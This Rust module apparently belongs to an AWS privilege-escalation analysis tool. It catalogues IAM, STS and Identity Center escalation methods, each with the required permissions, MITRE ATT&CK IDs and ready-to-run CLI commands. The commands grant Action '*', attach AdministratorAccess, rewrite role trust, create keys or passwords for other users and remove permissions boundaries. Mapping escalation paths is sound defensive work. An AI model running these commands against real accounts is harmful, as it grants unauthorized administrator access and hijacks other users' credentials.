//! Methods over IAM itself: keys, passwords, policies, groups, trust, boundaries, permission sets.

use super::{Door, Grant, Kind, Method, On, UserState, Way, need, row};

const KEY: &str = "aws iam create-access-key --user-name {user}";
const ASSUME: &str = "aws sts assume-role --role-arn {role} --role-session-name x";
const VERSION: &str = "aws iam create-policy-version --policy-arn {policy} --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}' --set-as-default";
const TRUST: &str = "aws iam update-assume-role-policy --role-name {role-name} --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"{me}\"},\"Action\":\"sts:AssumeRole\"}}'";
const PUT_ROLE: &str = "aws iam put-role-policy --role-name {role-name} --policy-name x --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}'";
const PUT_USER: &str = "aws iam put-user-policy --user-name {user} --policy-name x --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}'";
const ATTACH_ROLE: &str =
    "aws iam attach-role-policy --role-name {role-name} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess";
const ATTACH_USER: &str =
    "aws iam attach-user-policy --user-name {user} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess";
/// What a permission set is changed on: itself and its instance of Identity Center.
const PERMISSION_SET: On = On::Each(&["arn:aws:sso:::permissionSet/{name}/{name}", "arn:aws:sso:::instance/{name}"]);
/// Where it is put in force: in the account, too.
const IN_ACCOUNT: On = On::Each(&[
    "arn:aws:sso:::permissionSet/{name}/{name}",
    "arn:aws:sso:::instance/{name}",
    "arn:aws:sso:::account/{account}",
]);
const SSO: &[&str] = &["AWS IAM Identity Center is managed from this account"];

/// The rows.
pub(super) static METHODS: &[Method] = &[
    row(
        "iam-001",
        "writes a new version of a managed policy that it has itself",
        Way::Myself(Grant::Policy),
        &[need("iam:CreatePolicyVersion", On::Policy)],
        &[VERSION],
        &["T1098.003"],
    ),
    row(
        "kg-iam-set-default-version",
        "makes an older, more generous version of a managed policy that it has the current one",
        Way::Myself(Grant::OldVersion),
        &[need("iam:SetDefaultPolicyVersion", On::Policy)],
        &["aws iam set-default-policy-version --policy-arn {policy} --version-id {version}"],
        &["T1098.003"],
    ),
    row(
        "iam-002",
        "makes an access key for a user",
        Way::User(UserState::RoomForKey),
        &[need("iam:CreateAccessKey", On::User)],
        &[KEY],
        &["T1098.001"],
    ),
    row(
        "iam-003",
        "deletes one of a user's two access keys and makes another",
        Way::User(UserState::TwoKeys),
        &[need("iam:CreateAccessKey", On::User), need("iam:DeleteAccessKey", On::User)],
        &["aws iam delete-access-key --user-name {user} --access-key-id AKIA…", KEY],
        &["T1098.001"],
    ),
    row(
        "iam-004",
        "gives a user a password",
        Way::User(UserState::NoPassword),
        &[need("iam:CreateLoginProfile", On::User)],
        &["aws iam create-login-profile --user-name {user} --password … --no-password-reset-required"],
        &["T1098.001"],
    ),
    row(
        "iam-005",
        "writes an inline policy into its own role",
        Way::Myself(Grant::Role),
        &[need("iam:PutRolePolicy", On::Role)],
        &[PUT_ROLE],
        &["T1098.003"],
    ),
    row(
        "iam-006",
        "changes a user's password",
        Way::User(UserState::Password),
        &[need("iam:UpdateLoginProfile", On::User)],
        &["aws iam update-login-profile --user-name {user} --password … --no-password-reset-required"],
        &["T1098.001"],
    ),
    row(
        "iam-007",
        "writes an inline policy into its own user",
        Way::Myself(Grant::User),
        &[need("iam:PutUserPolicy", On::User)],
        &[PUT_USER],
        &["T1098.003"],
    ),
    row(
        "iam-008",
        "attaches a managed policy to its own user",
        Way::Myself(Grant::User),
        &[need("iam:AttachUserPolicy", On::User)],
        &[ATTACH_USER],
        &["T1098.003"],
    ),
    row(
        "iam-009",
        "attaches a managed policy to its own role",
        Way::Myself(Grant::Role),
        &[need("iam:AttachRolePolicy", On::Role)],
        &[ATTACH_ROLE],
        &["T1098.003"],
    ),
    row(
        "iam-010",
        "attaches a managed policy to a group that it is in",
        Way::Myself(Grant::Group),
        &[need("iam:AttachGroupPolicy", On::Group)],
        &["aws iam attach-group-policy --group-name {group} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"],
        &["T1098.003"],
    ),
    row(
        "iam-011",
        "writes an inline policy into a group that it is in",
        Way::Myself(Grant::Group),
        &[need("iam:PutGroupPolicy", On::Group)],
        &[
            "aws iam put-group-policy --group-name {group} --policy-name x --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}'",
        ],
        &["T1098.003"],
    ),
    row(
        "iam-012",
        "makes a role trust it",
        Way::Role(Door::Rewritten),
        &[need("iam:UpdateAssumeRolePolicy", On::Role)],
        &[TRUST, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-013",
        "adds itself to a group",
        Way::Join,
        &[need("iam:AddUserToGroup", On::Group)],
        &["aws iam add-user-to-group --group-name {group} --user-name {user}"],
        &["T1098.003"],
    ),
    row(
        "iam-014",
        "attaches a managed policy to a role that trusts it",
        Way::GrantRole(Door::Trusted),
        &[need("iam:AttachRolePolicy", On::Role), need("sts:AssumeRole", On::Role)],
        &[ATTACH_ROLE, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-015",
        "attaches a managed policy to a user and makes an access key for them",
        Way::GrantUser,
        &[need("iam:AttachUserPolicy", On::User), need("iam:CreateAccessKey", On::User)],
        &[ATTACH_USER, KEY],
        &["T1098.003", "T1098.001"],
    ),
    row(
        "iam-016",
        "writes a new version of a managed policy of a role that trusts it",
        Way::GrantRole(Door::Trusted),
        &[need("iam:CreatePolicyVersion", On::Policy), need("sts:AssumeRole", On::Role)],
        &[VERSION, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-017",
        "writes an inline policy into a role that trusts it",
        Way::GrantRole(Door::Trusted),
        &[need("iam:PutRolePolicy", On::Role), need("sts:AssumeRole", On::Role)],
        &[PUT_ROLE, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-018",
        "writes an inline policy into a user and makes an access key for them",
        Way::GrantUser,
        &[need("iam:PutUserPolicy", On::User), need("iam:CreateAccessKey", On::User)],
        &[PUT_USER, KEY],
        &["T1098.003", "T1098.001"],
    ),
    row(
        "iam-019",
        "attaches a managed policy to a role and makes it trust it",
        Way::GrantRole(Door::Rewritten),
        &[need("iam:AttachRolePolicy", On::Role), need("iam:UpdateAssumeRolePolicy", On::Role)],
        &[ATTACH_ROLE, TRUST, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-020",
        "writes a new version of a role's managed policy and makes the role trust it",
        Way::GrantRole(Door::Rewritten),
        &[need("iam:CreatePolicyVersion", On::Policy), need("iam:UpdateAssumeRolePolicy", On::Role)],
        &[VERSION, TRUST, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "iam-021",
        "writes an inline policy into a role and makes it trust it",
        Way::GrantRole(Door::Rewritten),
        &[need("iam:PutRolePolicy", On::Role), need("iam:UpdateAssumeRolePolicy", On::Role)],
        &[PUT_ROLE, TRUST, ASSUME],
        &["T1098.003", "T1548.005"],
    ),
    row(
        "kg-iam-unbind-user",
        "deletes its own user's permissions boundary",
        Way::Unbound(Kind::User),
        &[need("iam:DeleteUserPermissionsBoundary", On::User)],
        &["aws iam delete-user-permissions-boundary --user-name {user}"],
        &["T1098.003"],
    ),
    row(
        "kg-iam-unbind-role",
        "deletes its own role's permissions boundary",
        Way::Unbound(Kind::Role),
        &[need("iam:DeleteRolePermissionsBoundary", On::Role)],
        &["aws iam delete-role-permissions-boundary --role-name {role-name}"],
        &["T1098.003"],
    ),
    row(
        "kg-iam-rebind-user",
        "replaces its own user's permissions boundary",
        Way::Unbound(Kind::User),
        &[need("iam:PutUserPermissionsBoundary", On::User)],
        &[
            "aws iam put-user-permissions-boundary --user-name {user} --permissions-boundary arn:aws:iam::aws:policy/AdministratorAccess",
        ],
        &["T1098.003"],
    ),
    row(
        "kg-iam-rebind-role",
        "replaces its own role's permissions boundary",
        Way::Unbound(Kind::Role),
        &[need("iam:PutRolePermissionsBoundary", On::Role)],
        &[
            "aws iam put-role-permissions-boundary --role-name {role-name} --permissions-boundary arn:aws:iam::aws:policy/AdministratorAccess",
        ],
        &["T1098.003"],
    ),
    row(
        "sts-001",
        "assumes a role that trusts it",
        Way::Role(Door::Trusted),
        &[need("sts:AssumeRole", On::Role)],
        &[ASSUME],
        &["T1548.005", "T1078.004"],
    ),
    row(
        "kg-sso-inline",
        "writes an inline policy into the permission set that it comes from",
        Way::Myself(Grant::PermissionSet),
        &[
            need("sso:PutInlinePolicyToPermissionSet", PERMISSION_SET),
            need("sso:ProvisionPermissionSet", IN_ACCOUNT),
        ],
        &[
            "aws sso-admin put-inline-policy-to-permission-set --instance-arn … --permission-set-arn … --inline-policy '{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}'",
            "aws sso-admin provision-permission-set --instance-arn … --permission-set-arn … --target-type ALL_PROVISIONED_ACCOUNTS",
        ],
        &["T1098.003"],
    )
    .also(SSO),
    row(
        "kg-sso-attach",
        "attaches a managed policy to the permission set that it comes from",
        Way::Myself(Grant::PermissionSet),
        &[
            need("sso:AttachManagedPolicyToPermissionSet", PERMISSION_SET),
            need("sso:ProvisionPermissionSet", IN_ACCOUNT),
        ],
        &[
            "aws sso-admin attach-managed-policy-to-permission-set --instance-arn … --permission-set-arn … --managed-policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
            "aws sso-admin provision-permission-set --instance-arn … --permission-set-arn … --target-type ALL_PROVISIONED_ACCOUNTS",
        ],
        &["T1098.003"],
    )
    .also(SSO),
    row(
        "kg-sso-assign",
        "assigns itself a permission set",
        Way::Role(Door::Assigned),
        &[need("sso:CreateAccountAssignment", IN_ACCOUNT)],
        &[
            "aws sso-admin create-account-assignment --instance-arn … --permission-set-arn … --principal-type USER --principal-id … --target-type AWS_ACCOUNT --target-id {account}",
        ],
        &["T1098.003"],
    )
    .also(SSO),
];
